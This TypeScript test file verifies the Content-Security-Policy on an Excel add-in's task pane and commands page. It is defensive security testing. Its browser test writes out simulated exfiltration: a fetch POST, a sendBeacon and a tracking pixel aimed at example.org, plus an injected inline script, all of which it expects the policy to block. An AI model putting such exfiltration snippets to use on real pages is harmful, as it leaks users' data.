import { readFileSync } from "node:fs";
import path from "node:path";
import {
  type BrowserSession,
  DIST_DIR,
  requireDist,
  startBrowserSession,
  waitForView,
} from "../helpers/browser";

// Confidentiality: the pane and the ribbon's commands page carry a Content-Security-Policy that lets scripts come
// only from their own origin and Microsoft's office.js host, and connections only to their own origin. Checked in
// the built pages, and in Chromium with the pages' real policy (the harness never bypasses it): a request our code
// did not make is refused by the browser itself, and the pane still does its work.

// eslint-disable-next-line @typescript-eslint/no-require-imports
const policy = require("../../scripts/content-security-policy.js") as {
  ADDIN_CSP: string;
  DIRECTIVES: Record<string, string[]>;
  OFFICE_JS_HOST: string;
};

const PAGES = ["taskpane.html", "commands.html"] as const;
const IN_EXCEL = { host: "Excel", requirementSets: { ExcelApi: "1.17" }, displayLanguage: "fr-FR" } as const;

function directives(csp: string): Map<string, string[]> {
  return new Map(
    csp
      .split(";")
      .map((part) => part.trim().split(/\s+/))
      .filter((words) => words[0] !== "")
      .map(([name, ...sources]) => [name, sources]),
  );
}

describe.each(PAGES)("dist/%s", (page) => {
  let html = "";
  beforeAll(() => {
    requireDist();
    html = readFileSync(path.join(DIST_DIR, page), "utf8");
  });

  test("carries the policy as its first <meta> after the charset, before any script", () => {
    const meta = /<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/.exec(html);
    expect(meta?.[1]).toBe(policy.ADDIN_CSP);
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<script"));
  });

  test("scripts from the page's origin and office.js's host only; connections to the page's origin only", () => {
    const csp = directives(policy.ADDIN_CSP);
    expect(csp.get("default-src")).toEqual(["'none'"]);
    expect(csp.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
    expect(csp.get("connect-src")).toEqual(["'self'"]);
    // Nothing that would let injected text run or reach elsewhere.
    const everySource = [...csp.values()].flat();
    for (const loose of ["'unsafe-eval'", "*", "https:", "http:", "data:", "blob:"])
      expect(everySource).not.toContain(loose);
    expect(csp.get("script-src")).not.toContain("'unsafe-inline'");
    // Excel frames the pane: frame-ancestors must not be set (a <meta> could not set it anyway).
    expect(csp.has("frame-ancestors")).toBe(false);
  });

  test("office.js is loaded from the one host the policy names", () => {
    const scripts = [...html.matchAll(/<script[^>]* src="?([^\s">]+)/g)].map((match) => match[1]);
    const external = scripts.filter((src) => /^https?:/.test(src)).map((src) => new URL(src).origin);
    expect(external).toEqual([policy.OFFICE_JS_HOST]);
  });
});

describe("in Chromium, under the pages' own policy", () => {
  let session: BrowserSession;
  beforeAll(async () => {
    session = await startBrowserSession();
  }, 60_000);
  afterAll(async () => {
    await session?.close();
  });

  test("the pane works, and anything our code did not load is refused by the browser before it leaves", async () => {
    const opened = await session.open({ page: "taskpane.html?role=traiteur", fakeHost: IN_EXCEL });
    try {
      await waitForView(opened.page, "role");
      const attempts = await opened.page.evaluate(async () => {
        const fetched = await fetch("https://example.org/collect", { method: "POST", body: "grille" }).then(
          () => "sent",
          (error: Error) => error.name,
        );
        // sendBeacon says "queued" either way; the violation below shows the browser refused it.
        navigator.sendBeacon("https://example.org/beacon", "grille");
        const image = new Image();
        image.src = "https://example.org/pixel.png";
        const injected = document.createElement("script");
        injected.textContent = "window.__injectedRan = true;";
        document.head.append(injected);
        // Give the browser a moment to report what it refused.
        await new Promise((resolve) => setTimeout(resolve, 300));
        const ran = (window as unknown as { __injectedRan?: boolean }).__injectedRan === true;
        return { fetched, ran };
      });
      expect(attempts).toEqual({ fetched: "TypeError", ran: false });
      const violations = await opened.cspViolations();
      expect(violations.map(({ directive, blocked }) => [directive, blocked])).toEqual(
        expect.arrayContaining([
          ["connect-src", "https://example.org/collect"],
          ["connect-src", "https://example.org/beacon"],
          ["img-src", "https://example.org/pixel.png"],
          ["script-src-elem", "inline"],
        ]),
      );
      expect(violations).toHaveLength(4);
      // Refused by the policy itself: not one of them reached the network (where the harness would have seen it).
      expect(opened.network.blocked).toEqual([]);
      expect(opened.errors.filter((error) => !/Content Security Policy/.test(error))).toEqual([]);
    } finally {
      await opened.close();
    }
  });

  test("office.js's own telemetry is refused by the policy, not only by the test's network isolation", async () => {
    const opened = await session.open({ page: "taskpane.html?role=traiteur", fakeHost: IN_EXCEL });
    try {
      await waitForView(opened.page, "role");
      // office.js starts its telemetry about three seconds after loading.
      await opened.page.waitForFunction(
        () =>
          (window.__cspViolations__ ?? []).some((violation) =>
            /telemetryservice\.firstpartyapps\.oaspapps\.com|pipe\.aria\.microsoft\.com/.test(
              violation.blocked,
            ),
          ),
        undefined,
        { timeout: 15_000 },
      );
      expect(await opened.cspViolations()).toEqual([]);
      expect(opened.network.officeTelemetry.length).toBeGreaterThan(0);
      expect(opened.network.blocked).toEqual([]);
      expect(opened.errors).toEqual([]);
    } finally {
      await opened.close();
    }
  });

  test("the ribbon's commands page loads under its policy without a violation", async () => {
    const opened = await session.open({ page: "commands.html" });
    try {
      await opened.page.waitForLoadState("load");
      expect(await opened.cspViolations()).toEqual([]);
      expect(opened.errors).toEqual([]);
      expect(opened.network.blocked).toEqual([]);
    } finally {
      await opened.close();
    }
  });
});
